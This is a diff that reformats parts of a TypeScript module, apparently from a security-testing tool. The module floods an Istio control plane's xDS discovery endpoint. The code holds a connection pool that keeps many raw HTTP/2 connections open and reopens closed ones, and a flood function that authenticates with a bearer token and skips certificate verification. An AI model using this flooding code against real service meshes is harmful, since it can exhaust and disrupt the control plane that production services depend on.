@@ -15,8 +15,10 @@ import { TYPE_ADDRESS } from '../lib/h2-ztunnel';
 import { encodeRequest, grpcFrame } from '../lib/pb';
 import { namesFloodRequest, type AttackName } from '../lib/attacks';
 
-
-interface Init { address: string; token: string }
+interface Init {
+  address: string;
+  token: string;
+}
 let init: Init | undefined;
 let running: { name: AttackName; stop: () => Record<string, number> } | undefined;
 const PATH = '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources';
@@ -26,7 +28,11 @@ const auth = (): Record<string, string> => ({ authorization: `Bearer ${init!.tok
 
 /** Keeps `n` raw connections from `src` open, each set up by `prime`; reopens closed ones (and tops up via `tick`). */
 function pool(
-  n: number, src: string, prime: (c: RawH2) => void, preface = true, tick?: (c: RawH2) => void,
+  n: number,
+  src: string,
+  prime: (c: RawH2) => void,
+  preface = true,
+  tick?: (c: RawH2) => void,
 ): () => Record<string, number> {
   const conns = new Set<RawH2>();
   const stats = { opened: 0, refused: 0 };
@@ -37,16 +43,19 @@ function pool(
     for (const c of conns) tick?.(c);
     while (!stopped && conns.size + pending < n) {
       pending++;
-      rawH2({ port: port(), localAddress: src, preface }).then((c) => {
-        pending--;
-        stats.opened++;
-        if (stopped) return c.destroy();
-        conns.add(c);
-        prime(c);
-      }, () => {
-        pending--;
-        stats.refused++;
-      });
+      rawH2({ port: port(), localAddress: src, preface }).then(
+        (c) => {
+          pending--;
+          stats.opened++;
+          if (stopped) return void c.destroy();
+          conns.add(c);
+          prime(c);
+        },
+        () => {
+          pending--;
+          stats.refused++;
+        },
+      );
     }
   };
   fill();
@@ -67,7 +76,10 @@ function flood(src: string, first: Buffer, next: (i: number) => Buffer): () => R
   const open = (): void => {
     if (stopped) return;
     session = http2.connect(`https://${init!.address}`, {
-      rejectUnauthorized: false, servername: 'istiod.istio-system.svc', minVersion: 'TLSv1.3', ciphers: TLS13_CIPHERS,
+      rejectUnauthorized: false,
+      servername: 'istiod.istio-system.svc',
+      minVersion: 'TLSv1.3',
+      ciphers: TLS13_CIPHERS,
       localAddress: src,
     } as http2.SecureClientSessionOptions);
     session.on('error', () => undefined);
